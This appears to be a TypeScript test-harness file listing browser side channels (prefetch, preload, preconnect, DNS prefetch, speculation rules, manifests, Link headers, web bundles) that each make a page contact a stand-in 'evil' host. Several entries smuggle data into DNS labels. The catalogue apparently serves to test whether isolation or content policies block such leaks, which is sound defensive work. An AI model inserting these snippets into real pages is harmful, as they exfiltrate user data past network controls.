// Ways by what a browser does ahead or on the side: hints, predictions, icons, manifests, early headers, dictionaries.
import { inFamily, type Way } from '../way.ts';

const way = inFamily('hint', 'hint');
const link =
  (rel: string, more = ''): Way['page'] =>
  (a) =>
    `<link rel="${rel}" href="${a.evil()}" ${more}>`;
const rules = (a: Parameters<Way['page']>[0], what: string): string =>
  `<script type="speculationrules">{ "${what}": [{ "source": "list", "urls": ["${a.evil()}"], "eagerness": "immediate" }] }</script>`;

export const HINT: readonly Way[] = [
  way('prefetch', 'link rel=prefetch', link('prefetch')),
  way('preload-image', 'preload of an image', link('preload', 'as="image"')),
  way('preload-script', 'preload of a script', link('preload', 'as="script"')),
  way('preload-style', 'preload of a style', link('preload', 'as="style"')),
  way('preload-font', 'preload of a font', link('preload', 'as="font" crossorigin')),
  way('preload-fetch', 'preload of a fetch', link('preload', 'as="fetch" crossorigin')),
  way(
    'preload-srcset',
    'preload of a source set',
    (a) => `<link rel="preload" as="image" imagesrcset="${a.evil()} 1x">`,
  ),
  way('module-preload', 'link rel=modulepreload', link('modulepreload')),
  way(
    'preconnect',
    'link rel=preconnect',
    (a) => `<link rel="preconnect" href="http://127.0.0.1:${a.port}">`,
    { port: 'tcp' },
  ),
  way(
    'preconnect-https',
    'link rel=preconnect over https',
    (a) => `<link rel="preconnect" href="https://127.0.0.1:${a.port}">`,
    { port: 'tcp' },
  ),
  way(
    'preconnect-script',
    'a preconnect that a script inserts',
    (a) =>
      a.script(
        `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://127.0.0.1:${a.port}'; document.head.append(l)`,
      ),
    { port: 'tcp' },
  ),
  way('preconnect-header', 'a Link header with preconnect', () => '', {
    port: 'tcp',
    headers: (a) => ({ link: `<http://127.0.0.1:${a.port}>; rel=preconnect` }),
  }),
  way('dns-prefetch', 'link rel=dns-prefetch', (a) => `<link rel="dns-prefetch" href="//${a.name}">`, {
    alone: true,
  }),
  way(
    'dns-prefetch-label',
    'data in a label of a dns-prefetch',
    (a) =>
      a.script(
        `const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = '//order-4711.${a.name}'; document.head.append(l)`,
      ),
    { alone: true },
  ),
  way(
    'dns-image',
    'an image at a name that is looked up',
    (a) => `<img src="http://order-4711.${a.name}/x" alt="">`,
    { alone: true },
  ),
  way(
    'dns-fetch',
    'a fetch at a name that is looked up',
    (a) => a.script(`await fetch('https://order-4711.${a.name}/x', { mode: 'no-cors' })`),
    { alone: true },
  ),
  way(
    'dns-navigation',
    'a navigation to a name that is looked up',
    (a) => a.script(`location.href = 'http://order-4711.${a.name}/x'`),
    { alone: true },
  ),
  way(
    'dns-websocket',
    'a WebSocket at a name that is looked up',
    (a) => a.script(`new WebSocket('ws://order-4711.${a.name}/x')`),
    { alone: true },
  ),
  way(
    'dns-link',
    'an anchor whose name may be looked up ahead',
    (a) => `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://${a.name}/x">x</a>`,
    { alone: true },
  ),
  way('prerender', 'link rel=prerender', link('prerender')),
  way('icon', 'an icon', (a) => `<link rel="icon" href="${a.evil('icon.png')}">`, { alone: true }),
  way('manifest', 'a manifest', (a) => `<link rel="manifest" href="${a.evil('x.manifest')}">`, {
    alone: true,
  }),
  way(
    'manifest-own',
    'an own manifest with foreign icons',
    (a) => `<link rel="manifest" href="${a.site('m.json')}">`,
    {
      alone: true,
      routes: (a) => ({
        'm.json': {
          headers: { 'content-type': 'application/manifest+json' },
          body: JSON.stringify({
            name: 'x',
            start_url: a.evil(),
            icons: [{ src: a.evil('i.png'), sizes: '192x192' }],
          }),
        },
      }),
    },
  ),
  way(
    'dictionary',
    'a compression dictionary',
    (a) => `<link rel="compression-dictionary" href="${a.evil()}">`,
  ),
  way('speculation-prefetch', 'speculation rules, prefetch', (a) => rules(a, 'prefetch'), { alone: true }),
  way(
    'speculation-prerender',
    'speculation rules, prerender of an own page',
    (a) =>
      `<script type="speculationrules">{ "prerender": [{ "source": "list", "urls": ["${a.site('p')}"], "eagerness": "immediate" }] }</script>`,
    { alone: true, routes: (a) => ({ p: { body: `<img src="${a.evil()}">` } }) },
  ),
  way('speculation-header', 'a Speculation-Rules header', () => '', {
    routes: (a) => ({
      rules: {
        headers: { 'content-type': 'application/speculationrules+json' },
        body: JSON.stringify({ prefetch: [{ source: 'list', urls: [a.evil()], eagerness: 'immediate' }] }),
      },
    }),
    headers: (a) => ({ 'speculation-rules': `"${a.site('rules')}"` }),
  }),
  way(
    'speculation-document',
    'speculation rules over the links of the page',
    (a) =>
      `<a href="${a.evil()}">x</a><script type="speculationrules">{ "prefetch": [{ "source": "document", "where": { "href_matches": "*" }, "eagerness": "immediate" }] }</script>`,
    { alone: true },
  ),
  way('link-preload', 'a Link header with preload', () => '', {
    headers: (a) => ({ link: `<${a.evil()}>; rel=preload; as=image` }),
  }),
  way('link-style', 'a Link header with a style sheet', () => '', {
    headers: (a) => ({ link: `<${a.evil('x.css')}>; rel=stylesheet` }),
  }),
  way('link-prefetch', 'a Link header with prefetch', () => '', {
    headers: (a) => ({ link: `<${a.evil()}>; rel=prefetch` }),
  }),
  way('link-module', 'a Link header with modulepreload', () => '', {
    headers: (a) => ({ link: `<${a.evil('x.mjs')}>; rel=modulepreload` }),
  }),
  way('signed-exchange', 'a signed exchange', (a) => `<iframe src="${a.evil('x.sxg')}"></iframe>`),
  way(
    'web-bundle',
    'a web bundle',
    (a) =>
      `<script type="webbundle">{ "source": "${a.evil('x.wbn')}", "resources": ["${a.evil('y')}"] }</script><img src="${a.evil('y')}" alt="">`,
  ),
];
